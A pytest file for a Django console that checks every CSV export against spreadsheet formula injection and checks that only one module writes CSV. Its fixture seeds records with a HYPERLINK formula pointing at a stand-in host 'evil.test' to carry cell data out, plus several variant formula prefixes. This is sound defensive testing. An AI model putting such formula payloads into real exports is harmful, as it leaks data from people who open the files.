"""Every file for spreadsheets, made from the URLconf: no cell of it is run as a formula."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from console.access.models import AuditRecord, ReadCount
from console.connections import clients
from console.jobs.models import Job, Row, Secret
from console.ui.csv import FORMULA
from tests.console_process import CHECKOUT
from tests.populated import PopulatedTeam, addresses, fleet_copied, populated, seeded
from tests.test_odd_answers import Damaged, each

__all__ = ["fleet_copied", "populated", "seeded"]  # fixtures

SignIn = Callable[[str], Client]
EVIL = '=HYPERLINK("evil.test?"&A1)'
# The exports there are now: one that is added is tried like these, and one that is lost is missed here.
KNOWN = {
    "products:list",
    "devices:list",
    "jobs:list",
    "jobs:result",
    "jobs:result-with-secrets",
    "jobs:findings",
    "jobs:invalid-rows",
    "access:audit",
    "access:audit-reads",
}
# Those whose cells begin with words of ours, or with what nobody outside could have put there.
OUR_WORDS_FIRST = {"jobs:list", "approvals:list"}


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes the cell for a formula; a plain number is none."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA)
    return False


@pytest.fixture
def hostile(populated: PopulatedTeam, monkeypatch: pytest.MonkeyPatch, settings: Any) -> PopulatedTeam:
    """The populated with a formula in every text that people, devices or the cloud could have put there."""
    settings.CLOUD_CACHE_SECONDS = 0
    kept = {"True", "False", "r"}

    def worse(value: Any) -> Any:
        return EVIL if isinstance(value, str) and value not in kept else value

    damaged = Damaged(populated.upstream, lambda answer: each(answer, worse))
    monkeypatch.setattr(clients, "transport_for", lambda connection: damaged)
    clients.drop_clients()
    team = populated.org.team
    AuditRecord.objects.create(
        team=team, operation=EVIL, actor_label=EVIL, target=EVIL, message=EVIL, code="=1+1", request_id="@x"
    )
    ReadCount.objects.create(
        team=team, day="2026-01-01", actor_label=EVIL, connection=EVIL, operation=EVIL, count=1
    )
    job = Job.objects.get(pk=populated.things["jobs"]["job"])
    job.params = {**job.params, "product_name": EVIL, "filename": EVIL}
    job.state = Job.State.PARTIAL
    job.save()
    finding = {"findings": [["name_chars", EVIL, EVIL]], "cells": [EVIL, "-1+1", "\t=1", "＝1+1"]}
    Row.objects.create(job=job, number=1, name=EVIL, nickname=EVIL, state="created", reason=EVIL)
    Row.objects.create(job=job, number=2, name=EVIL, nickname=EVIL, state="failed", reason=EVIL)
    Row.objects.create(job=job, number=3, name=EVIL, nickname=EVIL, state="skipped", extra=finding)
    raw = {"findings": [["quotes", "", ""]], "raw": f"{EVIL},＝1,+1,-1,@x\r\n"}
    Row.objects.create(job=job, number=4, name="", state="skipped", extra=raw)
    Secret.objects.create(job=job, name=EVIL, value=EVIL, expires_at=timezone.now() + timedelta(hours=1))
    return populated


def files(populated: PopulatedTeam, client: Client) -> Iterator[tuple[str, str]]:
    """What every address that gives a CSV file gives, by the address's name."""
    for name in addresses():
        url = populated.url(name)
        key = populated.things["products"]["key"]
        answer = client.get(f"{url}?format=csv&product={key}")
        if answer.get("Content-Type", "").startswith("text/csv"):
            yield name, answer.getvalue().decode("utf-8-sig")


def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(hostile: PopulatedTeam, sign_in: SignIn) -> None:
    found, wrong, neutralised = set(), [], set()
    for name, text in files(hostile, sign_in("owner")):
        found.add(name)
        for row in csv.reader(io.StringIO(text)):
            wrong += [f"{name}: {cell!r}" for cell in row if runs(cell)]
            if any(cell.startswith("'=") for cell in row):
                neutralised.add(name)
    assert wrong == []
    assert found >= KNOWN
    assert neutralised >= found - OUR_WORDS_FIRST, "nothing hostile was in it: give it something in `hostile`"


def test_only_one_module_writes_csv() -> None:
    """So that nobody forgets: others give rows to `console.ui.csv`."""
    offenders = []
    for path in Path(CHECKOUT, "console").rglob("*.py"):
        where = path.relative_to(CHECKOUT).as_posix()
        if where == "console/ui/csv.py" or where.startswith("console/emulator/"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            typed = (
                isinstance(node, ast.keyword)
                and node.arg == "content_type"
                and "csv" in ast.unparse(node.value)
            )
            if called.endswith(("csv.writer", "DictWriter")) or typed:
                offenders.append(f"{where}:{getattr(node, 'lineno', 0)}")
    assert offenders == []
